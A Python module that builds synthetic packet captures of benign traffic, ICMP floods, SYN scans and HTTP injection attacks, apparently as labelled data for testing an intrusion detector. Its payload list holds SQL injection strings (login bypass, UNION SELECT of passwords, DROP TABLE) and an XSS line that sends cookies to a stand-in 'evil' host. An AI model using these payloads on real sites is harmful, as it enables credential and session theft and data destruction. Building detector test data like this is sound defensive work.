"""Synthetic pcap generator: four traffic archetypes for end-to-end runs
(ICMP flood, SYN scan, HTTP payload injection, benign chatter)."""

from __future__ import annotations

from pathlib import Path

import numpy as np

from .packets import Protocol, TcpFlags, build_frame, write_pcap

ARCHETYPES = ("BenignChatter", "IcmpFlood", "SynScan", "WebInjection")

ATTACKER_MAC = "DC:A6:32:C9:E4:D5"  # on the default attacker list
BENIGN_MAC = "AA:17:02:05:34:99"
TARGET_MAC = "B8:27:EB:00:00:01"

_BASE_TS = 1_700_000_000 * 1_000_000

_INJECTION_PAYLOADS = [
    b"GET /login.php?user=admin%27%20OR%20%271%27=%271&pass=x HTTP/1.1\r\nHost: shop.local\r\n\r\n",
    b"POST /search HTTP/1.1\r\nHost: shop.local\r\n\r\nq=' UNION SELECT username,password FROM users--",
    b"GET /item?id=1;DROP TABLE orders-- HTTP/1.1\r\nHost: shop.local\r\n\r\n",
    b"GET /profile?name=<script>document.location='http://evil/'+document.cookie</script> HTTP/1.1\r\n\r\n",
]

_BENIGN_PAYLOADS = [
    b"GET /index.html HTTP/1.1\r\nHost: home.local\r\n\r\n",
    b"{\"sensor\": \"kitchen\", \"temp\": 21.5}",
    b"ping keepalive",
    b"HTTP/1.1 200 OK\r\nContent-Length: 13\r\n\r\nHello, world!",
    b"",
]


def _icmp_flood_flow(rng: np.random.RandomState, t0: int, frames: list):
    src = f"10.1.{rng.randint(0, 200)}.{rng.randint(1, 250)}"
    for i in range(20):
        frames.append(
            (
                t0 + i * 1000,
                build_frame(
                    src, "10.0.0.1", Protocol.ICMP,
                    payload=bytes(rng.randint(0, 256, size=8, dtype=np.uint8)),
                    src_mac=ATTACKER_MAC, dst_mac=TARGET_MAC,
                ),
            )
        )
    return t0 + 25_000


def _syn_scan_flow(rng: np.random.RandomState, t0: int, frames: list, state: dict):
    port = state.setdefault("port", 1)
    state["port"] = port + 1
    src_port = int(rng.randint(40000, 65000))
    frames.append(
        (
            t0,
            build_frame(
                "10.2.0.2", "10.0.0.1", Protocol.TCP,
                src_port=src_port, dst_port=port, tcp_flags=TcpFlags.SYN,
                src_mac=ATTACKER_MAC, dst_mac=TARGET_MAC,
            ),
        )
    )
    return t0 + 2_000


def _web_injection_flow(rng: np.random.RandomState, t0: int, frames: list):
    src = f"10.3.0.{rng.randint(1, 250)}"
    src_port = int(rng.randint(40000, 65000))
    payload = _INJECTION_PAYLOADS[rng.randint(len(_INJECTION_PAYLOADS))]
    t = t0
    common = dict(src_port=src_port, dst_port=80)
    frames.append((t, build_frame(src, "10.0.0.80", Protocol.TCP, tcp_flags=TcpFlags.SYN,
                                  src_mac=ATTACKER_MAC, dst_mac=TARGET_MAC, **common)))
    t += int(rng.randint(500, 3000))
    frames.append((t, build_frame("10.0.0.80", src, Protocol.TCP, src_port=80, dst_port=src_port,
                                  tcp_flags=TcpFlags.SYN | TcpFlags.ACK,
                                  src_mac=TARGET_MAC, dst_mac=ATTACKER_MAC)))
    t += int(rng.randint(500, 3000))
    frames.append((t, build_frame(src, "10.0.0.80", Protocol.TCP,
                                  tcp_flags=TcpFlags.PSH | TcpFlags.ACK, payload=payload,
                                  src_mac=ATTACKER_MAC, dst_mac=TARGET_MAC, **common)))
    t += int(rng.randint(1000, 10000))
    frames.append((t, build_frame("10.0.0.80", src, Protocol.TCP, src_port=80, dst_port=src_port,
                                  tcp_flags=TcpFlags.PSH | TcpFlags.ACK,
                                  payload=b"HTTP/1.1 500 Internal Server Error\r\n\r\n",
                                  src_mac=TARGET_MAC, dst_mac=ATTACKER_MAC)))
    return t + int(rng.randint(5000, 20000))


def _benign_flow(rng: np.random.RandomState, t0: int, frames: list):
    src = f"192.168.1.{rng.randint(2, 250)}"
    t = t0
    if rng.rand() < 0.3:
        # DNS lookup
        src_port = int(rng.randint(40000, 65000))
        frames.append((t, build_frame(src, "192.168.1.1", Protocol.UDP,
                                      src_port=src_port, dst_port=53,
                                      payload=b"\x12\x34\x01\x00\x00\x01home.local",
                                      src_mac=BENIGN_MAC, dst_mac=TARGET_MAC)))
        t += int(rng.randint(2000, 20000))
        frames.append((t, build_frame("192.168.1.1", src, Protocol.UDP,
                                      src_port=53, dst_port=src_port,
                                      payload=b"\x12\x34\x81\x80\x00\x01\x00\x01home.local",
                                      src_mac=TARGET_MAC, dst_mac=BENIGN_MAC)))
    else:
        dst = f"192.168.1.{rng.randint(2, 250)}"
        src_port = int(rng.randint(40000, 65000))
        dst_port = int(rng.choice([8883, 1883, 5000, 9000]))
        n = int(rng.randint(2, 9))
        for i in range(n):
            fwd = i % 2 == 0
            payload = _BENIGN_PAYLOADS[rng.randint(len(_BENIGN_PAYLOADS))]
            flags = TcpFlags.ACK if i else TcpFlags.SYN
            if payload:
                flags |= TcpFlags.PSH
            frames.append(
                (
                    t,
                    build_frame(
                        src if fwd else dst, dst if fwd else src, Protocol.TCP,
                        src_port=src_port if fwd else dst_port,
                        dst_port=dst_port if fwd else src_port,
                        tcp_flags=flags, payload=payload,
                        src_mac=BENIGN_MAC if fwd else TARGET_MAC,
                        dst_mac=TARGET_MAC if fwd else BENIGN_MAC,
                    ),
                )
            )
            t += int(rng.randint(3000, 60000))
    return t + int(rng.randint(10000, 100000))


def generate_archetype_pcaps(
    out_dir: str | Path, flows_per_class: int = 250, seed: int = 0
) -> dict[str, Path]:
    """Write one pcap per archetype; returns label -> path."""
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    rng = np.random.RandomState(seed)
    paths: dict[str, Path] = {}
    for label in ARCHETYPES:
        frames: list[tuple[int, bytes]] = []
        t = _BASE_TS + int(rng.randint(0, 1_000_000))
        state: dict = {}
        for _ in range(flows_per_class):
            if label == "IcmpFlood":
                t = _icmp_flood_flow(rng, t, frames)
            elif label == "SynScan":
                t = _syn_scan_flow(rng, t, frames, state)
            elif label == "WebInjection":
                t = _web_injection_flow(rng, t, frames)
            else:
                t = _benign_flow(rng, t, frames)
        frames.sort(key=lambda f: f[0])
        path = out_dir / f"{label}.pcap"
        write_pcap(path, frames)
        paths[label] = path
    return paths
